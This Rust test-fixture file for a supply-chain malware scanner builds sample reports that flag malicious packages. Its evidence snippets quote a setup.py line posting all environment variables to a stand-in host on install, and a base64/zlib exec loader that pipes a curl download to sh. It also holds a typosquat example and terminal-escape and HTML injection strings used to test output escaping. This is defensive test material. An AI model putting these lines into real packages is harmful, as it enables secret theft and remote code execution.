//! Hand-built reports, shared by the tests of every renderer.

use foretaste_model::facts::ArtifactKind;
use foretaste_model::report::{
    ArtifactReport, Checks, IndexDigest, NotTasted, ReleaseReport, Report, SCHEMA, SkippedCheck,
    Summary, Tool,
};
use foretaste_model::{
    Capability, Confidence, Coverage, Digest, Ecosystem, Evidence, EvidenceRole, ExecutionContext,
    Finding, Input, RuleGroup, RuleId, RuleMeta, Severity, SkipKind, SkipReason, Span, Verdict,
};
use foretaste_report::RuleInfo;

const fn rule(
    id: &'static str,
    title: &'static str,
    group: RuleGroup,
    severity: Severity,
    confidence: Confidence,
    tags: &'static [&'static str],
) -> RuleMeta {
    RuleMeta {
        id: RuleId(id),
        title,
        group,
        severity,
        confidence,
        needs: &[Input::Code],
        tags,
        options: &[],
        since: "0.1.0",
    }
}

static RULES: [RuleMeta; 8] = [
    rule(
        "secrets-to-network",
        "sends secrets over the network",
        RuleGroup::Chain,
        Severity::Critical,
        Confidence::High,
        &["T1041", "AV-001"],
    ),
    rule(
        "decode-and-execute",
        "decodes code and runs it",
        RuleGroup::Obfuscation,
        Severity::Critical,
        Confidence::High,
        &["T1027"],
    ),
    rule(
        "confusable-name",
        "its name imitates a popular package",
        RuleGroup::Name,
        Severity::High,
        Confidence::Medium,
        &["AV-201"],
    ),
    rule(
        "young-package",
        "first released a short time ago",
        RuleGroup::Publisher,
        Severity::Low,
        Confidence::Certain,
        &[],
    ),
    rule(
        "missing-repository",
        "names no source repository",
        RuleGroup::Hygiene,
        Severity::Low,
        Confidence::Certain,
        &[],
    ),
    rule(
        "install-hook",
        "runs code when it is installed",
        RuleGroup::Install,
        Severity::Low,
        Confidence::High,
        &["T1546"],
    ),
    rule(
        "broken-archive",
        "its archive is damaged",
        RuleGroup::Archive,
        Severity::Medium,
        Confidence::High,
        &[],
    ),
    rule(
        "known-malware",
        "is known malware",
        RuleGroup::Known,
        Severity::Critical,
        Confidence::Certain,
        &[],
    ),
];

const PAGE: &str = "# Environment or secret data leaves over the network\n\n## What it finds\nA value that holds \
environment variables reaches an HTTP, DNS or socket sink.\n";

/// Finds one of the rules above.
pub(crate) fn rules(id: &str) -> Option<RuleInfo> {
    let meta = RULES.iter().find(|r| r.id.0 == id)?;
    Some(RuleInfo {
        meta,
        page: if id == "secrets-to-network" { PAGE } else { "" },
    })
}

/// A finding of one of the rules above, with its weight.
pub(crate) fn finding(rule: &str, message: &str, weight: f64) -> Finding {
    let mut finding = Finding::new(rules(rule).expect("a known rule").meta, message);
    finding.weight = weight;
    finding
}

/// A piece of code as evidence: `needle` is the part of `line` that it points at.
pub(crate) fn code(path: &str, number: u32, line: &str, needle: &str, note: &str) -> Evidence {
    let at = line.find(needle).expect("the needle stands in the line");
    let column = line[..at].chars().count() as u32 + 1;
    let mut evidence = Evidence::file("", path, note);
    evidence.span = Some(Span::on_line(
        number,
        column,
        column + needle.chars().count() as u32,
    ));
    evidence.snippet = line.into();
    evidence
}

pub(crate) trait With: Sized {
    fn role(self, role: EvidenceRole) -> Self;
    fn of(self, artifact: &str) -> Self;
    fn layer(self, steps: &[&str]) -> Self;
}

impl With for Evidence {
    fn role(mut self, role: EvidenceRole) -> Self {
        self.role = role;
        self
    }

    fn of(mut self, artifact: &str) -> Self {
        self.artifact = artifact.into();
        self
    }

    fn layer(mut self, steps: &[&str]) -> Self {
        self.layer = steps.iter().map(|s| (*s).into()).collect();
        self
    }
}

/// A report over these releases.
pub(crate) fn report(releases: Vec<ReleaseReport>) -> Report {
    Report {
        schema: SCHEMA.into(),
        tool: Tool {
            name: "foretaste".into(),
            version: "0.1.0".into(),
            rules: "sha256:0000".into(),
        },
        summary: Summary::of(&releases),
        releases,
        policy_notes: Vec::new(),
        since: Vec::new(),
    }
}

pub(crate) fn artifact(filename: &str, kind: ArtifactKind, coverage: Coverage) -> ArtifactReport {
    ArtifactReport {
        filename: filename.into(),
        kind,
        size: 1822,
        digest: format!("sha256:{}", "ab".repeat(32)).parse::<Digest>().ok(),
        index_digest: IndexDigest::Match,
        coverage,
    }
}

pub(crate) fn coverage(files: u32, parsed: u32) -> Coverage {
    Coverage {
        files,
        bytes: u64::from(files) * 800,
        parsed,
        parsed_bytes: u64::from(parsed) * 800,
        ..Coverage::default()
    }
}

pub(crate) fn skip(check: &str, kind: SkipKind, detail: &str) -> SkippedCheck {
    SkippedCheck {
        check: check.into(),
        reason: SkipReason::new(kind, detail),
    }
}

/// A release without anything to say about it.
pub(crate) fn clear(ecosystem: Ecosystem, name: &str, version: &str) -> ReleaseReport {
    ReleaseReport {
        target: format!("{}:{name}", ecosystem.id()).into(),
        ecosystem: Some(ecosystem),
        name: name.into(),
        version: Some(version.into()),
        purl: Some(format!("pkg:{}/{name}@{version}", ecosystem.id()).into()),
        verdict: Verdict::Clear,
        score: 0.0,
        incomplete: Vec::new(),
        published: "2025-06-09T16:43:05Z".parse().ok(),
        compared_with: None,
        change: None,
        artifacts: vec![artifact(
            &format!("{name}-{version}.tar.gz"),
            ArtifactKind::Sdist,
            coverage(46, 44),
        )],
        not_tasted: Vec::new(),
        findings: Vec::new(),
        capabilities: Vec::new(),
        checks: Checks {
            ran: 61,
            skipped: Vec::new(),
        },
        advice: None,
        wanted_by: Vec::new(),
        moved: None,
        imported_as: Vec::new(),
        usage: None,
        subject: foretaste_model::report::Subject::Release,
    }
}

/// An sdist that posts the environment while it is installed.
pub(crate) fn exfiltration() -> ReleaseReport {
    let sdist = "acme-corp-util-1.0.3.tar.gz";
    let chain = finding(
        "secrets-to-network",
        "sends the whole environment to a web server",
        0.922,
    )
    .context(ExecutionContext::Install)
    .evidence(
        code(
            "setup.py",
            9,
            "        blob = base64.b64encode(json.dumps(dict(os.environ)).encode())",
            "dict(os.environ)",
            "reads every environment variable",
        )
        .of(sdist)
        .role(EvidenceRole::Source),
    )
    .evidence(
        code(
            "setup.py",
            9,
            "        blob = base64.b64encode(json.dumps(dict(os.environ)).encode())",
            "base64.b64encode",
            "encodes it",
        )
        .of(sdist)
        .role(EvidenceRole::Transform),
    )
    .evidence(
        code(
            "setup.py",
            10,
            "        urlopen(Request(\"https://collect.example.invalid/c\", data=blob))",
            "urlopen(Request(\"https://collect.example.invalid/c\", data=blob))",
            "and posts it",
        )
        .of(sdist)
        .role(EvidenceRole::Sink),
    )
    .evidence(
        code(
            "setup.py",
            14,
            "    cmdclass={\"install\": AfterInstall},",
            "{\"install\": AfterInstall}",
            "runs on `pip install`",
        )
        .of(sdist)
        .role(EvidenceRole::Trigger),
    );
    let name = finding(
        "confusable-name",
        "one letter away from your internal package acme-corp-utils",
        0.56,
    );
    let age = finding("young-package", "first released 6 hours ago", 0.15);
    let upkeep = finding("missing-repository", "names no source repository", 0.15);
    ReleaseReport {
        verdict: Verdict::Block,
        score: 0.971,
        artifacts: vec![artifact(
            sdist,
            ArtifactKind::Sdist,
            Coverage {
                fallback: 1,
                ..coverage(6, 5)
            },
        )],
        findings: vec![chain, name, age, upkeep],
        capabilities: vec![Capability::NetworkHttp, Capability::EnvironmentReadAll],
        wanted_by: Vec::new(),
        moved: None,
        imported_as: Vec::new(),
        usage: None,
        subject: foretaste_model::report::Subject::Release,
        advice: Some(
            "remove the line, or if you meant the internal package: acme-corp-utils".into(),
        ),
        ..clear(Ecosystem::Pypi, "acme-corp-util", "1.0.3")
    }
}

/// A wheel whose payload is hidden below two decode steps.
pub(crate) fn layered() -> ReleaseReport {
    let wheel = "colorlib_plus-0.2-py3-none-any.whl";
    let hidden = finding("decode-and-execute", "decodes a script and runs it", 0.876)
        .context(ExecutionContext::Import)
        .evidence(
            code(
                "colorlib_plus/__init__.py",
                3,
                "exec(zlib.decompress(base64.b64decode('eJxLyslPSQYABgMB/Q==')))",
                "exec(zlib.decompress(base64.b64decode('eJxLyslPSQYABgMB/Q==')))",
                "runs what it decoded",
            )
            .of(wheel),
        )
        .evidence(
            code(
                "colorlib_plus/__init__.py",
                3,
                "import os;os.system('curl -s https://drop.example.invalid/x | sh')",
                "os.system",
                "downloads a script and runs it",
            )
            .of(wheel)
            .layer(&["base64", "zlib"])
            .role(EvidenceRole::Sink),
        );
    ReleaseReport {
        verdict: Verdict::Block,
        score: 0.876,
        artifacts: vec![artifact(wheel, ArtifactKind::Wheel, coverage(4, 2))],
        findings: vec![hidden],
        ..clear(Ecosystem::Pypi, "colorlib-plus", "0.2")
    }
}

/// An archive that ends in the middle, audited without a network.
pub(crate) fn incomplete() -> ReleaseReport {
    ReleaseReport {
        verdict: Verdict::Incomplete,
        score: 0.43,
        incomplete: vec![
            "left-pads-2.1.0.tgz ends in the middle of package/index.js".into(),
            "package/lib/table.js: parsing stopped after 10 s".into(),
        ],
        published: None,
        compared_with: None,
        change: None,
        artifacts: vec![artifact(
            "left-pads-2.1.0.tgz",
            ArtifactKind::NpmTarball,
            Coverage {
                unreadable: 2,
                scanned: 3,
                ..coverage(12, 7)
            },
        )],
        not_tasted: ["x86_64", "aarch64", "musl", "win32", "darwin"]
            .iter()
            .map(|p| NotTasted {
                filename: format!("left-pads-2.1.0-{p}.tgz").into(),
                reason: "made for another platform".into(),
            })
            .collect(),
        findings: vec![
            finding(
                "broken-archive",
                "its archive ends before its last member",
                0.43,
            )
            .evidence(Evidence::file(
                "left-pads-2.1.0.tgz",
                "package/index.js",
                "8,192 of 23,114 bytes are there",
            )),
        ],
        checks: Checks {
            ran: 54,
            skipped: vec![
                skip("domain-expired", SkipKind::Offline, ""),
                skip(
                    "few-downloads",
                    SkipKind::Unsupported,
                    "the index has no download counts",
                ),
                skip("known-malware", SkipKind::Offline, ""),
                skip("known-vulnerability", SkipKind::Offline, ""),
                skip(
                    "release-gap",
                    SkipKind::Unsupported,
                    "the index has no upload times",
                ),
                skip(
                    "young-package",
                    SkipKind::Unsupported,
                    "the index has no upload times",
                ),
                skip("yanked", SkipKind::NotApplicable, "npm has no yanking"),
            ],
        },
        ..clear(Ecosystem::Npm, "left-pads", "2.1.0")
    }
}

/// A name that imitates another, and nothing else.
pub(crate) fn nomination() -> ReleaseReport {
    ReleaseReport {
        verdict: Verdict::Review,
        score: 0.56,
        findings: vec![
            finding(
                "confusable-name",
                "is one swap away from `requests`, which 900 million downloads a month ask for",
                0.56,
            )
            .evidence(Evidence::statement(
                "`requests` was first released in 2011, `reqeusts` 3 days ago",
            ))
            .remedy("install `requests` instead"),
        ],
        ..clear(Ecosystem::Pypi, "reqeusts", "2.0.0")
    }
}

/// A finding that the policy sets aside.
pub(crate) fn waived() -> ReleaseReport {
    let mut hook = finding(
        "install-hook",
        "runs `node build.js` after it is installed",
        0.0,
    )
    .context(ExecutionContext::Install)
    .evidence(code(
        "package/package.json",
        12,
        "    \"postinstall\": \"node build.js\",",
        "node build.js",
        "",
    ));
    hook.waived = Some("reviewed by security on 2025-03-01; compiles a binding".into());
    ReleaseReport {
        findings: vec![hook],
        ..clear(Ecosystem::Npm, "node-thing", "4.1.0")
    }
}

/// A release with remarks only.
pub(crate) fn noted() -> ReleaseReport {
    ReleaseReport {
        verdict: Verdict::Note,
        score: 0.3,
        findings: vec![
            finding("missing-repository", "names no source repository", 0.15),
            finding("install-hook", "runs build.rs when it is built", 0.14)
                .context(ExecutionContext::Install),
        ],
        ..clear(Ecosystem::Cargo, "tiny-crate", "0.3.1")
    }
}

/// A release in which every string that a package controls attacks the reader.
pub(crate) fn hostile() -> ReleaseReport {
    let evil = "\u{1b}[2J\u{1b}]0;pwned\u{7}@everyone [free](https://evil.invalid) <img src=x onerror=a()> | a | \
                ``` ![i](x) \u{202e}gnp.exe\u{200b} #1";
    let mut chain = finding("secrets-to-network", evil, 0.9)
        .context(ExecutionContext::Import)
        .evidence(
            code(
                "a/\u{202e}|`<b>`\n.py",
                2,
                "\tx = '\u{1b}[31m\u{200b}```\t</details>' # \u{202e} @admin",
                "</details>",
                evil,
            )
            .of("\u{9b}2J|evil.whl"),
        );
    chain.remedy = Some(evil.into());
    let long: String = "very-long-name-".repeat(40);
    ReleaseReport {
        target: evil.into(),
        name: long.into(),
        version: Some("1.0\u{1b}[31m.0".repeat(10).into()),
        purl: None,
        verdict: Verdict::Block,
        score: 0.9,
        findings: vec![chain],
        not_tasted: vec![NotTasted {
            filename: evil.into(),
            reason: evil.into(),
        }],
        advice: Some(evil.into()),
        ..clear(Ecosystem::Npm, "x", "1")
    }
}

/// A window in the middle of a minified line of 100 kB.
pub(crate) fn minified() -> ReleaseReport {
    let line = (0..12_000).fold(String::new(), |line, i| line + &format!("a{i}=b({i});"));
    let at = 80_000;
    let window: String = line.chars().skip(at).take(240).collect();
    let mut source = Evidence::file("", "dist/bundle.min.js", "reads the clipboard");
    source.span = Some(Span::on_line(1, at as u32 + 101, at as u32 + 118));
    source.snippet = window.clone().into();
    source.snippet_column = at as u32 + 1;
    source.role = EvidenceRole::Source;
    let mut sink = Evidence::file(
        "",
        "dist/bundle.min.js",
        "sends it to a server that is not named in the package",
    );
    sink.span = Some(Span::on_line(1, at as u32 + 221, at as u32 + 236));
    sink.snippet = window.into();
    sink.snippet_column = at as u32 + 1;
    sink.role = EvidenceRole::Sink;
    ReleaseReport {
        verdict: Verdict::Review,
        score: 0.5,
        findings: vec![
            finding(
                "secrets-to-network",
                "sends the clipboard to a web server",
                0.5,
            )
            .context(ExecutionContext::Asset)
            .evidence(source)
            .evidence(sink),
        ],
        ..clear(Ecosystem::Npm, "mini", "1.0.0")
    }
}

/// A place that spans lines, once with all its lines and once with the first.
pub(crate) fn multiline() -> ReleaseReport {
    let mut first = Evidence::file("", "lib/run.py", "starts a shell");
    first.span = Some(Span {
        line: 20,
        column: 5,
        end_line: 24,
        end_column: 6,
    });
    first.snippet = "    subprocess.run(".into();
    let mut all = Evidence::file("", "lib/run.py", "with the user's input");
    all.span = Some(Span {
        line: 40,
        column: 8,
        end_line: 42,
        end_column: 9,
    });
    all.snippet = "    x = call(\n\t\t名前,\n        )".into();
    ReleaseReport {
        verdict: Verdict::Review,
        score: 0.5,
        findings: vec![
            finding("secrets-to-network", "starts a shell", 0.5)
                .context(ExecutionContext::Called)
                .evidence(first)
                .evidence(all),
        ],
        ..clear(Ecosystem::Pypi, "multi", "1.0.0")
    }
}
